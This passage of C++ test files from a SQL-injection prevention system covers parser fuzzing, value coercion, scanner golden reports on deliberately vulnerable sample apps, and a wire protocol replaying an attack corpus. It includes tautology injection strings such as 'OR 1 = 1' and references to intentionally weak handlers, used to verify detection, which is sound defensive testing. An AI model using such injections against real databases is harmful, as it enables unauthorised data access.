    ASSERT_TRUE(statics && !statics->empty())
        << app_name << ": runtime-learned ID " << id
        << " has no statically pre-trained model";
    runtime.lookup_apply(id, [&](const std::vector<core::QueryModel>& qms) {
      for (const core::QueryModel& qm : qms) {
        bool found = false;
        for (const core::QueryModel& sm : *statics) {
          found = found || models_equivalent(sm, qm);
        }
        EXPECT_TRUE(found) << app_name << ": runtime model for " << id
                           << " not covered:\n"
                           << qm.to_string();
      }
    });
  }
}

INSTANTIATE_TEST_SUITE_P(Apps, StaticContainsRuntime,
                         ::testing::Values("tickets", "waspmon"));

}  // namespace
}  // namespace septic::analysis

// Robustness sweeps with deterministic pseudo-random inputs: the parser
// stack must never crash or hang on garbage (it either parses or throws
// LexError/ParseError), and the full SEPTIC pipeline must uphold its
// invariants on generated-but-valid queries.
#include <gtest/gtest.h>

#include <memory>
#include <string>

#include "common/unicode.h"
#include "engine/database.h"
#include "engine/error.h"
#include "septic/septic.h"
#include "sqlcore/lexer.h"
#include "sqlcore/parser.h"
#include "web/proxy.h"

namespace septic {
namespace {

/// Deterministic xorshift64 generator (no std randomness: results must be
/// identical across platforms and runs).
class Rng {
 public:
  explicit Rng(uint64_t seed) : state_(seed ? seed : 0x2545f4914f6cdd1dull) {}
  uint64_t next() {
    state_ ^= state_ << 13;
    state_ ^= state_ >> 7;
    state_ ^= state_ << 17;
    return state_;
  }
  uint64_t below(uint64_t n) { return next() % n; }

 private:
  uint64_t state_;
};

// ------------------------------------------------- garbage never crashes

class LexerFuzz : public ::testing::TestWithParam<uint64_t> {};

TEST_P(LexerFuzz, ArbitraryBytesEitherLexOrThrow) {
  Rng rng(GetParam());
  for (int round = 0; round < 300; ++round) {
    size_t len = rng.below(120);
    std::string input;
    for (size_t i = 0; i < len; ++i) {
      input += static_cast<char>(rng.below(256));
    }
    try {
      (void)sql::lex(input);
    } catch (const sql::LexError&) {
      // acceptable outcome
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, LexerFuzz,
                         ::testing::Values(1u, 7u, 99u, 12345u, 999983u));

class ParserFuzz : public ::testing::TestWithParam<uint64_t> {};

TEST_P(ParserFuzz, TokenSoupEitherParsesOrThrows) {
  static const char* kFragments[] = {
      "SELECT", "FROM",  "WHERE", "INSERT", "INTO",  "VALUES", "UPDATE",
      "SET",    "DELETE","AND",   "OR",     "NOT",   "UNION",  "JOIN",
      "ON",     "GROUP", "BY",    "ORDER",  "LIMIT", "t",      "a",
      "b",      "*",     "(",     ")",      ",",     "=",      "<",
      "1",      "2.5",   "'x'",   "''",     "?",     "--",     "/*",
      "*/",     "IN",    "LIKE",  "NULL",   "IS",    "BETWEEN",
  };
  Rng rng(GetParam());
  for (int round = 0; round < 300; ++round) {
    std::string input;
    size_t tokens = 1 + rng.below(25);
    for (size_t i = 0; i < tokens; ++i) {
      input += kFragments[rng.below(std::size(kFragments))];
      input += ' ';
    }
    try {
      sql::ParsedQuery q = sql::parse(input);
      // Whatever parsed must print and re-parse to a fixed point.
      std::string printed = sql::statement_to_sql(q.statement);
      sql::ParsedQuery q2 = sql::parse(printed);
      EXPECT_EQ(sql::statement_to_sql(q2.statement), printed) << input;
    } catch (const sql::LexError&) {
    } catch (const sql::ParseError&) {
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, ParserFuzz,
                         ::testing::Values(3u, 17u, 424242u));

TEST(CharsetFuzz, ConversionNeverChangesLengthUnexpectedly) {
  Rng rng(2026);
  for (int round = 0; round < 500; ++round) {
    size_t len = rng.below(80);
    std::string input;
    for (size_t i = 0; i < len; ++i) {
      input += static_cast<char>(rng.below(256));
    }
    std::string converted = common::server_charset_convert(input);
    // Conversion only ever collapses multi-byte confusables to one byte:
    // never grows, and is idempotent.
    EXPECT_LE(converted.size(), input.size());
    EXPECT_EQ(common::server_charset_convert(converted), converted);
  }
}

TEST(FingerprintFuzz, NeverCrashesAndIsIdempotentOnItsOutput) {
  Rng rng(77);
  for (int round = 0; round < 300; ++round) {
    size_t len = rng.below(100);
    std::string input;
    for (size_t i = 0; i < len; ++i) {
      input += static_cast<char>(rng.below(128));  // ASCII soup
    }
    std::string fp = web::QueryFirewall::fingerprint(input);
    // Fingerprinting a fingerprint must be stable (all literals already
    // collapsed, whitespace already canonical).
    EXPECT_EQ(web::QueryFirewall::fingerprint(fp), fp) << input;
  }
}

// --------------------------------------- generated valid-query invariants

/// Random-but-valid SELECTs over a fixed schema.
std::string random_select(Rng& rng) {
  static const char* kCols[] = {"a", "b", "c"};
  static const char* kOps[] = {"=", "<", ">", "<>", "<=", ">="};
  std::string q = "SELECT ";
  size_t ncols = 1 + rng.below(3);
  for (size_t i = 0; i < ncols; ++i) {
    if (i) q += ", ";
    q += kCols[rng.below(3)];
  }
  q += " FROM fz WHERE ";
  size_t nconds = 1 + rng.below(3);
  for (size_t i = 0; i < nconds; ++i) {
    if (i) q += rng.below(2) ? " AND " : " OR ";
    q += kCols[rng.below(3)];
    q += ' ';
    q += kOps[rng.below(6)];
    q += ' ';
    if (rng.below(2)) {
      q += std::to_string(rng.below(1000));
    } else {
      q += "'v" + std::to_string(rng.below(1000)) + "'";
    }
  }
  if (rng.below(3) == 0) {
    q += " ORDER BY " + std::string(kCols[rng.below(3)]);
    if (rng.below(2)) q += " DESC";
  }
  if (rng.below(3) == 0) q += " LIMIT " + std::to_string(1 + rng.below(20));
  return q;
}

class PipelineFuzz : public ::testing::TestWithParam<uint64_t> {};

TEST_P(PipelineFuzz, TrainedQueriesAlwaysPassRetransmission) {
  engine::Database db;
  db.execute_admin("CREATE TABLE fz (a INT, b TEXT, c DOUBLE)");
  db.execute_admin("INSERT INTO fz VALUES (1, 'x', 0.5), (2, 'y', 1.5)");
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);
  engine::Session session;

  Rng rng(GetParam());
  std::vector<std::string> trained;
  septic->set_mode(core::Mode::kTraining);
  for (int i = 0; i < 40; ++i) {
    std::string q = random_select(rng);
    db.execute(session, q);
    trained.push_back(std::move(q));
  }

  septic->set_mode(core::Mode::kPrevention);
  // Every trained query must replay cleanly (the zero-false-positive
  // invariant), in any order.
  for (auto it = trained.rbegin(); it != trained.rend(); ++it) {
    EXPECT_NO_THROW(db.execute(session, *it)) << *it;
  }
  EXPECT_EQ(septic->stats().sqli_detected, 0u);

  // And every trained query with a tautology appended must be flagged.
  size_t flagged = 0;
  for (size_t i = 0; i < 10; ++i) {
    std::string attacked = trained[i] + " OR 1 = 1";
    // Appending after ORDER BY / LIMIT is invalid SQL; skip those.
    if (trained[i].find("ORDER") != std::string::npos ||
        trained[i].find("LIMIT") != std::string::npos) {
      continue;
    }
    try {
      db.execute(session, attacked);
    } catch (const engine::DbError& e) {
      if (e.code() == engine::ErrorCode::kBlocked) ++flagged;
    }
  }
  EXPECT_GT(flagged, 0u);
}

INSTANTIATE_TEST_SUITE_P(Seeds, PipelineFuzz,
                         ::testing::Values(11u, 222u, 3333u, 44444u));

}  // namespace
}  // namespace septic

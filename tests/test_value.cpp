#include "sqlcore/value.h"

#include <gtest/gtest.h>

namespace septic::sql {
namespace {

TEST(ValueType_, Basics) {
  EXPECT_EQ(Value().type(), ValueType::kNull);
  EXPECT_EQ(Value(int64_t{5}).type(), ValueType::kInt);
  EXPECT_EQ(Value(2.5).type(), ValueType::kDouble);
  EXPECT_EQ(Value(std::string("x")).type(), ValueType::kString);
  EXPECT_TRUE(Value::null().is_null());
}

TEST(NumericPrefix, MySqlSemantics) {
  EXPECT_DOUBLE_EQ(numeric_prefix("123abc", false), 123.0);
  EXPECT_DOUBLE_EQ(numeric_prefix("abc", false), 0.0);
  EXPECT_DOUBLE_EQ(numeric_prefix("  42", false), 42.0);
  EXPECT_DOUBLE_EQ(numeric_prefix("-7xyz", false), -7.0);
  EXPECT_DOUBLE_EQ(numeric_prefix("3.5rest", true), 3.5);
  EXPECT_DOUBLE_EQ(numeric_prefix("3.5rest", false), 3.0);
  EXPECT_DOUBLE_EQ(numeric_prefix("", false), 0.0);
  EXPECT_DOUBLE_EQ(numeric_prefix("+9", false), 9.0);
}

TEST(Coerce, StringToNumber) {
  EXPECT_EQ(Value(std::string("42abc")).coerce_int(), 42);
  EXPECT_EQ(Value(std::string("abc")).coerce_int(), 0);
  EXPECT_DOUBLE_EQ(Value(std::string("2.5x")).coerce_double(), 2.5);
  EXPECT_EQ(Value::null().coerce_int(), 0);
}

TEST(Coerce, NumberToString) {
  EXPECT_EQ(Value(int64_t{42}).coerce_string(), "42");
  EXPECT_EQ(Value(2.5).coerce_string(), "2.5");
  EXPECT_EQ(Value::null().coerce_string(), "");
}

TEST(Truthy, MySqlBooleanContext) {
  EXPECT_TRUE(Value(int64_t{1}).truthy());
  EXPECT_FALSE(Value(int64_t{0}).truthy());
  EXPECT_FALSE(Value::null().truthy());
  EXPECT_TRUE(Value(std::string("1abc")).truthy());
  EXPECT_FALSE(Value(std::string("abc")).truthy());  // "abc" -> 0 -> false
  EXPECT_TRUE(Value(0.5).truthy());
}

TEST(Compare, NumericWhenEitherSideNumeric) {
  // MySQL: '7' = 7 is true (string coerced).
  EXPECT_EQ(Value(std::string("7")).compare(Value(int64_t{7})), 0);
  EXPECT_LT(Value(int64_t{3}).compare(Value(std::string("7"))), 0);
  // 'abc' = 0 is TRUE in MySQL (string coerces to 0)!
  EXPECT_EQ(Value(std::string("abc")).compare(Value(int64_t{0})), 0);
}

TEST(Compare, StringsCaseInsensitive) {
  EXPECT_EQ(Value(std::string("Alice")).compare(Value(std::string("alice"))),
            0);
  EXPECT_LT(Value(std::string("apple")).compare(Value(std::string("BANANA"))),
            0);
}

TEST(Equality, StrictTypeAware) {
  EXPECT_EQ(Value(int64_t{1}), Value(int64_t{1}));
  EXPECT_FALSE(Value(int64_t{1}) == Value(std::string("1")));
  EXPECT_EQ(Value::null(), Value::null());
}

class ReprRoundTrip : public ::testing::TestWithParam<Value> {};

TEST_P(ReprRoundTrip, SerializeParse) {
  const Value& v = GetParam();
  Value out;
  ASSERT_TRUE(Value::from_repr(v.repr(), out)) << v.repr();
  EXPECT_EQ(out, v);
}

INSTANTIATE_TEST_SUITE_P(
    Values, ReprRoundTrip,
    ::testing::Values(Value::null(), Value(int64_t{0}), Value(int64_t{-42}),
                      Value(int64_t{1234567890123}), Value(3.14159),
                      Value(-0.5), Value(std::string("")),
                      Value(std::string("hello world")),
                      Value(std::string("with|pipe;semi,comma")),
                      Value(std::string("newline\nand\ttab")),
                      Value(std::string("unicode \xca\xbc bytes")),
                      Value(std::string("S5:decoy"))));

TEST(ReprParse, RejectsMalformed) {
  Value v;
  EXPECT_FALSE(Value::from_repr("", v));
  EXPECT_FALSE(Value::from_repr("X1", v));
  EXPECT_FALSE(Value::from_repr("I", v));
  EXPECT_FALSE(Value::from_repr("Iabc", v));
  EXPECT_FALSE(Value::from_repr("S9:short", v));   // length too large
  EXPECT_FALSE(Value::from_repr("S2:abc", v));     // length too small
  EXPECT_FALSE(Value::from_repr("Sx:abc", v));     // non-numeric length
  EXPECT_FALSE(Value::from_repr("Nx", v));         // trailing garbage
}

TEST(ToDisplay, Rendering) {
  EXPECT_EQ(Value::null().to_display(), "NULL");
  EXPECT_EQ(Value(int64_t{7}).to_display(), "7");
  EXPECT_EQ(Value(std::string("x")).to_display(), "x");
}

}  // namespace
}  // namespace septic::sql

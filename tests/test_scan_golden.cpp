// Golden-file tests: the septic-scan JSON report for every sample app (and
// the seeded vulnerable-handler fixture) must match tests/golden/ byte for
// byte. Regenerate intentionally with:
//
//   SEPTIC_REGEN_GOLDEN=1 ./test_scan_golden
//
// and review the diff like any other code change.
#include <gtest/gtest.h>

#include <cstdlib>
#include <fstream>
#include <sstream>

#include "analysis/scanner.h"

namespace septic::analysis {
namespace {

std::string repo_path(const std::string& rel) {
  return std::string(SEPTIC_SOURCE_DIR) + "/" + rel;
}

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return "<unreadable: " + path + ">";
  std::ostringstream buf;
  buf << in.rdbuf();
  return buf.str();
}

ScanReport::AppEntry scan_app(const std::string& rel, core::QmStore& store) {
  return scan_file(repo_path(rel), "", store);
}

void check_golden(const std::string& rel_source,
                  const std::string& golden_name) {
  core::QmStore store;
  ScanReport report;
  report.apps.push_back(scan_app(rel_source, store));
  std::string json = render_json(report);
  std::string gpath = repo_path("tests/golden/" + golden_name);
  if (std::getenv("SEPTIC_REGEN_GOLDEN") != nullptr) {
    std::ofstream out(gpath, std::ios::binary);
    ASSERT_TRUE(out.write(json.data(),
                          static_cast<std::streamsize>(json.size())))
        << "cannot write " << gpath;
    GTEST_SKIP() << "regenerated " << gpath;
  }
  EXPECT_EQ(json, read_file(gpath))
      << "report drifted from " << gpath
      << " — rerun with SEPTIC_REGEN_GOLDEN=1 and review the diff";
}

class GoldenScan : public ::testing::TestWithParam<const char*> {};

TEST_P(GoldenScan, JsonReportMatchesGolden) {
  std::string app = GetParam();
  check_golden("src/web/apps/" + app + ".cpp", app + ".json");
}

INSTANTIATE_TEST_SUITE_P(Apps, GoldenScan,
                         ::testing::Values("addressbook", "tickets",
                                           "waspmon", "refbase", "zerocms"),
                         [](const auto& info) {
                           return std::string(info.param);
                         });

TEST(GoldenScan, VulnmixFixtureMatchesGolden) {
  check_golden("tests/data/vulnmix.cpp", "vulnmix.json");
}

// ------------------------------------------------- semantic spot checks
// (golden bytes say "nothing changed"; these say what the bytes *mean*)

size_t count_class(const AppScan& s, FindingClass k) {
  size_t n = 0;
  for (const Finding& f : s.findings) n += (f.klass == k) ? 1 : 0;
  return n;
}

TEST(ScanSemantics, SeededFixtureCoversEveryMismatchClass) {
  core::QmStore store;
  AppScan s = scan_app("tests/data/vulnmix.cpp", store).scan;
  EXPECT_GE(count_class(s, FindingClass::kTaintedUnsanitized), 1u);
  EXPECT_GE(count_class(s, FindingClass::kEscapeNumericMismatch), 1u);
  EXPECT_GE(count_class(s, FindingClass::kHtmlSqlMismatch), 1u);
  EXPECT_GE(count_class(s, FindingClass::kStoredUnsanitized), 1u);
  EXPECT_GE(count_class(s, FindingClass::kTemplateParseError), 1u);
  // The deliberately safe route stays finding-free.
  for (const Finding& f : s.findings) {
    EXPECT_NE(f.site, "ok-safe") << f.message;
  }
}

TEST(ScanSemantics, StockAppsHaveNoFalsePositiveClasses) {
  // The sample apps deliberately carry escape-numeric and second-order
  // weaknesses (that is what the attack corpus exploits), but no handler
  // is entirely unsanitized and none uses HTML encoders on SQL — findings
  // of those classes on stock sources would be false positives.
  for (const char* app : {"addressbook", "tickets", "waspmon", "refbase",
                          "zerocms"}) {
    core::QmStore store;
    AppScan s =
        scan_app("src/web/apps/" + std::string(app) + ".cpp", store).scan;
    EXPECT_EQ(count_class(s, FindingClass::kTaintedUnsanitized), 0u) << app;
    EXPECT_EQ(count_class(s, FindingClass::kHtmlSqlMismatch), 0u) << app;
    EXPECT_EQ(count_class(s, FindingClass::kTemplateParseError), 0u) << app;
    EXPECT_GT(store.model_count(), 0u) << app;
  }
}

TEST(ScanSemantics, ZerocmsIsCompletelyClean) {
  core::QmStore store;
  AppScan s = scan_app("src/web/apps/zerocms.cpp", store).scan;
  EXPECT_TRUE(s.findings.empty());
  EXPECT_EQ(s.sinks.size(), 10u);
}

}  // namespace
}  // namespace septic::analysis

// Front-end protocol edges after the epoll rewrite: pipelined multi-frame
// bursts with strictly ordered replies, PREPARE-time verdicts (a blocked
// template never gets an id), the bounded prepared registry with
// STMT_CLOSE, malformed EXEC framing, unknown-opcode replies, and the full
// attack corpus bound as EXEC parameters over a raw socket.
#include <gtest/gtest.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "attacks/corpus.h"
#include "engine/database.h"
#include "net/client.h"
#include "net/protocol.h"
#include "net/server.h"
#include "septic/septic.h"

namespace septic::net {
namespace {

using sql::Value;

/// A raw socket speaking the frame protocol directly, so tests can send
/// byte sequences the Client class refuses to produce (malformed ids,
/// reply opcodes as requests, many frames in one write).
class RawConn {
 public:
  explicit RawConn(uint16_t port) {
    fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    addr.sin_port = htons(port);
    if (::connect(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) !=
        0) {
      ::close(fd_);
      fd_ = -1;
    }
  }
  ~RawConn() {
    if (fd_ >= 0) ::close(fd_);
  }
  bool ok() const { return fd_ >= 0; }

  void send_bytes(const std::string& bytes) {
    size_t sent = 0;
    while (sent < bytes.size()) {
      ssize_t w = ::send(fd_, bytes.data() + sent, bytes.size() - sent,
                         MSG_NOSIGNAL);
      ASSERT_GT(w, 0);
      sent += static_cast<size_t>(w);
    }
  }
  void send_frame(Opcode op, std::string payload) {
    Frame f;
    f.op = op;
    f.payload = std::move(payload);
    send_bytes(encode_frame(f));
  }

  /// Next reply frame, or nullopt when the server closed the connection.
  std::optional<Frame> read_frame() {
    char buf[4096];
    for (;;) {
      if (auto f = dec_.next()) return f;
      ssize_t n = ::recv(fd_, buf, sizeof(buf), 0);
      if (n <= 0) return std::nullopt;
      dec_.feed(std::string_view(buf, static_cast<size_t>(n)));
    }
  }

 private:
  int fd_ = -1;
  FrameDecoder dec_;
};

/// EXEC payload built by hand: "<id>" + 0x1F + "<len>:<repr>"* — the id and
/// length fields are raw strings so tests can make them malformed.
std::string exec_payload(const std::string& id,
                         const std::vector<std::string>& params) {
  std::string out = id;
  out += '\x1f';
  for (const std::string& repr : params) {
    out += std::to_string(repr.size());
    out += ':';
    out += repr;
  }
  return out;
}

uint64_t parse_stmt_id(const Frame& reply) {
  EXPECT_EQ(reply.op, Opcode::kOk);
  size_t eq = reply.payload.find('=');
  EXPECT_NE(eq, std::string::npos);
  return std::strtoull(reply.payload.c_str() + eq + 1, nullptr, 10);
}

class NetPipelineTest : public ::testing::Test {
 protected:
  void SetUp() override {
    db.execute_admin(
        "CREATE TABLE np (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT, n INT)");
    std::string sql = "INSERT INTO np (v, n) VALUES ";
    for (int i = 1; i <= 8; ++i) {
      if (i > 1) sql += ", ";
      sql += "('val" + std::to_string(i) + "', " + std::to_string(i) + ")";
    }
    db.execute_admin(sql);
    server = std::make_unique<Server>(db, 0);
    server->start();
  }
  void TearDown() override { server->stop(); }

  engine::Database db;
  std::unique_ptr<Server> server;
};

TEST_F(NetPipelineTest, PipelinedBurstRepliesInPostOrder) {
  Client c(server->port());
  constexpr int kBurst = 32;
  for (int i = 0; i < kBurst; ++i) {
    int key = i % 8 + 1;
    c.post_query("SELECT v FROM np WHERE n = " + std::to_string(key));
  }
  EXPECT_EQ(c.pending(), static_cast<size_t>(kBurst));
  for (int i = 0; i < kBurst; ++i) {
    int key = i % 8 + 1;
    std::string reply = c.read_reply();
    EXPECT_NE(reply.find("val" + std::to_string(key)), std::string::npos)
        << "reply " << i << " out of order: " << reply;
  }
  EXPECT_EQ(c.pending(), 0u);
}

TEST_F(NetPipelineTest, SingleWriteBurstDecodesAllFrames) {
  // All frames in ONE send(): the loop must decode every complete frame
  // from a single readiness event, not one frame per wakeup.
  RawConn raw(server->port());
  ASSERT_TRUE(raw.ok());
  std::string burst;
  for (int i = 0; i < 16; ++i) {
    Frame f;
    f.op = Opcode::kQuery;
    f.payload = "SELECT v FROM np WHERE n = " + std::to_string(i % 8 + 1);
    burst += encode_frame(f);
  }
  raw.send_bytes(burst);
  for (int i = 0; i < 16; ++i) {
    auto reply = raw.read_frame();
    ASSERT_TRUE(reply.has_value()) << "reply " << i << " missing";
    EXPECT_EQ(reply->op, Opcode::kRows);
    EXPECT_NE(reply->payload.find("val" + std::to_string(i % 8 + 1)),
              std::string::npos);
  }
}

TEST_F(NetPipelineTest, PipelinedErrorRepliesKeepOrder) {
  Client c(server->port());
  c.post_query("SELECT v FROM np WHERE n = 1");
  c.post_query("SELEC bogus syntax");
  c.post_query("SELECT v FROM np WHERE n = 2");
  EXPECT_NE(c.read_reply().find("val1"), std::string::npos);
  EXPECT_THROW(c.read_reply(), RemoteError);  // consumed, stream stays in sync
  EXPECT_NE(c.read_reply().find("val2"), std::string::npos);
  EXPECT_EQ(c.pending(), 0u);
  EXPECT_THROW(c.read_reply(), std::runtime_error);  // nothing pending
}

TEST_F(NetPipelineTest, PrepareOfAttackTemplateRefusedWithoutId) {
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);
  septic->set_mode(core::Mode::kTraining);
  {
    Client trainer(server->port());
    trainer.query("SELECT v FROM np WHERE n = 3");
  }
  septic->set_mode(core::Mode::kPrevention);

  Client c(server->port());
  // Structural attack baked into the template itself: the verdict runs at
  // PREPARE, so the refusal happens before any statement id exists.
  try {
    c.prepare("SELECT v FROM np WHERE n = ? OR 1 = 1");
    FAIL() << "attack template was issued a statement id";
  } catch (const RemoteError& e) {
    EXPECT_TRUE(e.blocked()) << e.what();
  }
  EXPECT_GE(septic->stats().dropped, 1u);
  // No id was burned and the connection survived the refusal: the next
  // (benign) PREPARE on this same connection gets the first id.
  uint64_t stmt = c.prepare("SELECT v FROM np WHERE n = ?");
  EXPECT_EQ(stmt, 1u);
  EXPECT_NE(c.execute(stmt, {Value(int64_t{3})}).find("val3"),
            std::string::npos);
  db.set_interceptor(nullptr);
}

TEST_F(NetPipelineTest, ExecAfterCloseAndUnknownIdError) {
  Client c(server->port());
  uint64_t stmt = c.prepare("SELECT v FROM np WHERE n = ?");
  EXPECT_NE(c.execute(stmt, {Value(int64_t{1})}).find("val1"),
            std::string::npos);
  c.close_stmt(stmt);
  EXPECT_THROW(c.execute(stmt, {Value(int64_t{1})}), RemoteError);
  EXPECT_THROW(c.execute(424242, {}), RemoteError);
  EXPECT_THROW(c.close_stmt(424242), RemoteError);
  // Close is deallocation, not teardown: the connection still serves.
  EXPECT_NE(c.query("SELECT v FROM np WHERE n = 2").find("val2"),
            std::string::npos);
}

TEST_F(NetPipelineTest, RegistryCapEvictsLeastRecentlyExecuted) {
  ServerOptions opts;
  opts.max_prepared_per_connection = 2;
  Server small(db, 0, opts);
  small.start();
  Client c(small.port());
  uint64_t s1 = c.prepare("SELECT v FROM np WHERE n = ?");
  uint64_t s2 = c.prepare("SELECT n FROM np WHERE v = ?");
  // Touch s1: it becomes most-recently-executed, so the cap must evict s2.
  c.execute(s1, {Value(int64_t{1})});
  uint64_t s3 = c.prepare("SELECT id FROM np WHERE n = ?");
  EXPECT_THROW(c.execute(s2, {Value(std::string("val1"))}), RemoteError);
  EXPECT_NE(c.execute(s1, {Value(int64_t{1})}).find("val1"),
            std::string::npos);
  EXPECT_NO_THROW(c.execute(s3, {Value(int64_t{1})}));
  small.stop();
}

TEST_F(NetPipelineTest, StmtCloseFreesSlotWithoutEviction) {
  ServerOptions opts;
  opts.max_prepared_per_connection = 2;
  Server small(db, 0, opts);
  small.start();
  Client c(small.port());
  uint64_t s1 = c.prepare("SELECT v FROM np WHERE n = ?");
  uint64_t s2 = c.prepare("SELECT n FROM np WHERE v = ?");
  c.close_stmt(s1);
  uint64_t s3 = c.prepare("SELECT id FROM np WHERE n = ?");
  // s1's slot was freed explicitly, so s2 survived the third PREPARE.
  EXPECT_NO_THROW(c.execute(s2, {Value(std::string("val1"))}));
  EXPECT_NO_THROW(c.execute(s3, {Value(int64_t{1})}));
  small.stop();
}

TEST_F(NetPipelineTest, MalformedExecFramingRejectedNotMisparsed) {
  RawConn raw(server->port());
  ASSERT_TRUE(raw.ok());
  raw.send_frame(Opcode::kPrepare, "SELECT v FROM np WHERE n = ?");
  auto prep = raw.read_frame();
  ASSERT_TRUE(prep.has_value());
  ASSERT_EQ(parse_stmt_id(*prep), 1u);

  std::string int_repr = Value(int64_t{1}).repr();
  struct Bad {
    const char* label;
    std::string payload;
  };
  const Bad cases[] = {
      // strtoull would have parsed "1x" as statement 1 and executed it.
      {"trailing garbage in id", exec_payload("1x", {int_repr})},
      {"empty id", exec_payload("", {int_repr})},
      {"overflowing id", exec_payload("99999999999999999999", {int_repr})},
      {"missing colon", "1\x1f" "3abc"},
      {"garbage length", "1\x1f" "3x:abc"},
      {"declared length past end", "1\x1f" "400:abc"},
      {"overflowing length", "1\x1f" "18446744073709551616:abc"},
  };
  for (const Bad& b : cases) {
    raw.send_frame(Opcode::kExec, b.payload);
    auto reply = raw.read_frame();
    ASSERT_TRUE(reply.has_value()) << b.label;
    EXPECT_EQ(reply->op, Opcode::kError) << b.label;
    EXPECT_EQ(reply->payload.rfind("SYNTAX", 0), 0u)
        << b.label << ": " << reply->payload;
  }
  // Every malformed EXEC got exactly one reply and none was fatal: the
  // statement still executes with well-formed framing.
  raw.send_frame(Opcode::kExec, exec_payload("1", {int_repr}));
  auto good = raw.read_frame();
  ASSERT_TRUE(good.has_value());
  EXPECT_EQ(good->op, Opcode::kRows);
  EXPECT_NE(good->payload.find("val1"), std::string::npos);
}

TEST_F(NetPipelineTest, UnexpectedOpcodeGetsOneReplyAndKeepsConnection) {
  RawConn raw(server->port());
  ASSERT_TRUE(raw.ok());
  // A reply opcode arriving as a request, pipelined ahead of a real query.
  // The old server skipped it silently, shifting every later reply one
  // slot early; now each frame gets exactly one reply, in order.
  Frame bogus;
  bogus.op = Opcode::kOk;
  bogus.payload = "not a request";
  Frame query;
  query.op = Opcode::kQuery;
  query.payload = "SELECT v FROM np WHERE n = 1";
  raw.send_bytes(encode_frame(bogus) + encode_frame(query));
  auto first = raw.read_frame();
  ASSERT_TRUE(first.has_value());
  EXPECT_EQ(first->op, Opcode::kError);
  EXPECT_EQ(first->payload.rfind("PROTOCOL", 0), 0u) << first->payload;
  auto second = raw.read_frame();
  ASSERT_TRUE(second.has_value());
  EXPECT_EQ(second->op, Opcode::kRows);
  EXPECT_NE(second->payload.find("val1"), std::string::npos);
}

TEST_F(NetPipelineTest, InvalidOpcodeByteIsFatalWithProtocolError) {
  RawConn raw(server->port());
  ASSERT_TRUE(raw.ok());
  // Opcode 99 fails frame decoding itself — the stream can't be trusted
  // past it, so the server answers PROTOCOL and closes.
  std::string frame;
  uint32_t len = 1;
  for (int i = 0; i < 4; ++i) {
    frame += static_cast<char>((len >> (i * 8)) & 0xff);
  }
  frame += static_cast<char>(99);
  raw.send_bytes(frame);
  auto reply = raw.read_frame();
  ASSERT_TRUE(reply.has_value());
  EXPECT_EQ(reply->op, Opcode::kError);
  EXPECT_EQ(reply->payload.rfind("PROTOCOL", 0), 0u) << reply->payload;
  EXPECT_FALSE(raw.read_frame().has_value());  // server closed
}

TEST_F(NetPipelineTest, DecoderCompactionSurvivesLongBurstsAndSplits) {
  // Regression for the quadratic front-erase: many small frames, fed in
  // chunk sizes that split frames across feed() calls, decode intact while
  // the consumed prefix is compacted away.
  FrameDecoder dec;
  std::string stream;
  constexpr int kFrames = 2000;
  for (int i = 0; i < kFrames; ++i) {
    Frame f;
    f.op = Opcode::kQuery;
    f.payload = "q" + std::to_string(i);
    stream += encode_frame(f);
  }
  int decoded = 0;
  size_t pos = 0;
  const size_t chunks[] = {1, 7, 4096, 13, 64};
  size_t chunk_i = 0;
  while (pos < stream.size()) {
    size_t n = std::min(chunks[chunk_i++ % 5], stream.size() - pos);
    dec.feed(std::string_view(stream).substr(pos, n));
    pos += n;
    while (auto f = dec.next()) {
      EXPECT_EQ(f->payload, "q" + std::to_string(decoded));
      ++decoded;
    }
  }
  EXPECT_EQ(decoded, kFrames);
}

TEST_F(NetPipelineTest, AttackCorpusViaExecParamsStaysBlocked) {
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);
  septic->set_mode(core::Mode::kTraining);
  db.execute_admin("INSERT INTO np (v, n) VALUES ('corpus-secret', 31337)");
  {
    Client trainer(server->port());
    uint64_t sel = trainer.prepare("SELECT v FROM np WHERE v = ?");
    trainer.execute(sel, {Value(std::string("val1"))});
    uint64_t ins = trainer.prepare("INSERT INTO np (v, n) VALUES (?, ?)");
    trainer.execute(ins, {Value(std::string("benign")), Value(int64_t{0})});
  }
  septic->set_mode(core::Mode::kPrevention);
  // Training-mode EXECs re-verdict once each (their PREPARE's own learning
  // bumps the model generation), so the counter is nonzero here; what must
  // hold is that the prevention-mode burst below adds nothing to it.
  const uint64_t reverdicts_before = db.prepared_reverdicts();

  // Every parameter value the corpus throws at the apps, bound raw.
  std::vector<std::string> payloads;
  for (const attacks::AttackCase& a : attacks::all_attacks()) {
    for (const auto& kv : a.attack.params) payloads.push_back(kv.second);
    for (const auto& r : a.setup) {
      for (const auto& kv : r.params) payloads.push_back(kv.second);
    }
  }
  ASSERT_GT(payloads.size(), 10u);

  RawConn raw(server->port());
  ASSERT_TRUE(raw.ok());
  raw.send_frame(Opcode::kPrepare, "SELECT v FROM np WHERE v = ?");
  auto prep_sel = raw.read_frame();
  ASSERT_TRUE(prep_sel.has_value());
  uint64_t sel_id = parse_stmt_id(*prep_sel);
  raw.send_frame(Opcode::kPrepare, "INSERT INTO np (v, n) VALUES (?, ?)");
  auto prep_ins = raw.read_frame();
  ASSERT_TRUE(prep_ins.has_value());
  uint64_t ins_id = parse_stmt_id(*prep_ins);

  // One pipelined burst: every payload bound to the SELECT and the INSERT.
  std::string burst;
  std::string zero = Value(int64_t{0}).repr();
  for (const std::string& p : payloads) {
    Frame sel;
    sel.op = Opcode::kExec;
    sel.payload =
        exec_payload(std::to_string(sel_id), {Value(std::string(p)).repr()});
    burst += encode_frame(sel);
    Frame ins;
    ins.op = Opcode::kExec;
    ins.payload = exec_payload(std::to_string(ins_id),
                               {Value(std::string(p)).repr(), zero});
    burst += encode_frame(ins);
  }
  raw.send_bytes(burst);

